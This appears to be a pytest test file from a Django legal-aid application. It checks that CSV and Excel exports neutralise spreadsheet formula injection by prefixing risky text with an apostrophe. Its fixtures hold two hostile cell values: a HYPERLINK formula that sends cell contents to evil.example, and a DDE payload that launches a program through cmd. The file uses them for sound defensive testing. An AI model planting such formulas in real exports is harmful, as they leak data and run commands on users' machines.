"""Spreadsheet (CSV/formula) injection: a text a user typed that starts with `=`, `+`, `-` or `@`
(or a tab or a line break) is written with a leading apostrophe in every Excel and CSV export, so that
Excel shows it instead of running it; numbers stay numbers. One helper (legalaid.exports) writes every
cell; a test per export: the statistics tables (CSV and Excel), the public summary (CSV) and the
finance export of subsidies (Excel)."""
import csv
import io

import pytest
from openpyxl import load_workbook

from cases.statistics.services import figures_refresh
from cases.tests.factories import receive
from legalaid.exports import safe_cell

pytestmark = pytest.mark.django_db

FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1,\"点击\")"


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"])
def test_a_text_that_could_be_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["驻马店市驿城区人民法院", "a=b", "", None, -3, 2.5, 0])
def test_other_values_are_written_as_they_are(value):
    assert safe_cell(value) == value


def csv_cells(response) -> list:
    text = response.content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response) -> list:
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells), "no cell is a formula"
    return [c.value for c in cells]


def assert_neutralised(cells, text):
    assert "'" + text in cells
    assert text not in cells


@pytest.fixture
def hostile_names(world):
    world.court.name = FORMULA
    world.court.save(update_fields=["name"])
    world.yicheng.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    world.yicheng.save(update_fields=["name"])
    for _ in range(6):
        receive(world, accepted_on="2026-03-02")
    figures_refresh(full=True)
    return world


def test_the_statistics_csv_export(client, hostile_names):
    client.force_login(hostile_names.city_staff)
    response = client.get("/statistics/export/coverage_by_court.csv", {"start": "2026-03-01", "end": "2026-12-31"})
    assert response.status_code == 200
    assert_neutralised(csv_cells(response), FORMULA)


def test_the_statistics_excel_export(client, hostile_names):
    client.force_login(hostile_names.city_staff)
    response = client.get("/statistics/export/all.xlsx", {"start": "2026-03-01", "end": "2026-12-31"})
    assert response.status_code == 200
    cells = xlsx_cells(response)
    assert_neutralised(cells, FORMULA)
    assert any(isinstance(v, int) for v in cells), "counts stay numbers"


def test_the_public_summary_csv(client, hostile_names):
    response = client.get("/statistics/public/coverage.csv", {"year": "2026"})
    assert response.status_code == 200
    assert_neutralised(csv_cells(response), hostile_names.yicheng.name)
